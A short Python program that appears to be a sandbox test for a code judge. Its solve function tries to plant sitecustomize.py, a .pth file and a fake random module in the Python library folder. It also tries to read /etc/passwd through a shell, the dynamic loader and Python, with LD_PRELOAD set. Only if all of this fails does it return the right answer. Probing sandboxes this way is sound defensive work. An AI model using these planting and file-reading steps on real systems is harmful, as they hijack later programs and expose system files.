# Executes something else, and plants code for later interpreters. The program is right, and says so only where neither
# gets it anywhere.
# a: accepted
# b: accepted
import os
import subprocess
import sys

FOLDER = os.path.dirname(os.__file__)
PLANTS = ["sitecustomize.py", "usercustomize.py", "evil.pth", "__pycache__/random.cpython-311.pyc", "random.py"]


def solve(n):
    for name in PLANTS:
        try:
            open(os.path.join(FOLDER, name), "w")
            return "planted " + name
        except OSError:
            pass
    for command in (
        ["/bin/sh", "-c", "cat /etc/passwd"],
        ["/lib64/ld-linux-x86-64.so.2", "/bin/cat", "/etc/passwd"],
        [sys.executable or "/usr/bin/python3", "-c", "print(open('/etc/passwd').read())"],
    ):
        try:
            out = subprocess.run(command, env={"LD_PRELOAD": "/tmp/x.so"}, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
            if b"root" in out.stdout:
                return "ran " + command[0]
        except OSError:
            pass
    return n + 1
